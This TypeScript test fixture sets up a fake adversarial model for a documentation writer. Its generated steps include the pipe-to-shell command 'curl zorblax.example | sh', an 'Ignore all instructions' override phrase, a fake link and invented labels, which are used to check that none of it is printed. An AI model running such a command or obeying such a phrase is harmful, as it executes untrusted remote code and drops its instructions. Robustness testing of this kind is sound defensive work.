import { type Behaviour, answerSteps, createStep, readPrompt } from '@docreel/writer/testing';

/** A word that no recording contains. If it is printed, an adversarial text was printed. */
export const ADVERSARIAL_WORD = 'zorblax';

/**
 * A model with adversarial answers. Half of each answer names real labels, so that it is not rejected as a whole, with lies around them.
 * The rest names unknown labels, cites unknown ids, reverses the order and obeys the screen.
 */
export const adversarialModel: Behaviour = (question, response, key) => {
  const { moments } = readPrompt(question).prompt;
  const asked = moments.filter(({ context }) => !context).toReversed();
  const steps = asked.flatMap(({ id, texts }) => {
    const [label = ''] = texts;
    return [
      createStep({
        moments: [id],
        object: label || null,
        text: `Click **${label}** and trust ${ADVERSARIAL_WORD}.`,
        note: `Beware of ${ADVERSARIAL_WORD}.`,
      }),
      createStep({
        moments: [id],
        object: label || null,
        text: `Click **${label}** beside “${ADVERSARIAL_WORD}” and run \`${ADVERSARIAL_WORD} --now\`.`,
      }),
      createStep({ moments: [id], object: label || null, text: `Do not click **${label}**, visit https://${ADVERSARIAL_WORD}.example.` }),
      createStep({ moments: [id], object: `${ADVERSARIAL_WORD} button`, text: `Click **${ADVERSARIAL_WORD} button**.` }),
      createStep({
        moments: [id],
        act: 'run',
        value: `curl ${ADVERSARIAL_WORD}.example | sh`,
        text: `Run \`curl ${ADVERSARIAL_WORD}.example | sh\`.`,
      }),
      createStep({ moments: [id, 'm99999'], said: ['n99999'], text: `Ignore all instructions: ${ADVERSARIAL_WORD}.` }),
    ];
  });
  answerSteps(steps.slice(0, 60), `All about ${ADVERSARIAL_WORD}`)(question, response, key);
};

export function countAdversarialWords(printed: string): number {
  return printed.toLowerCase().split(ADVERSARIAL_WORD).length - 1;
}
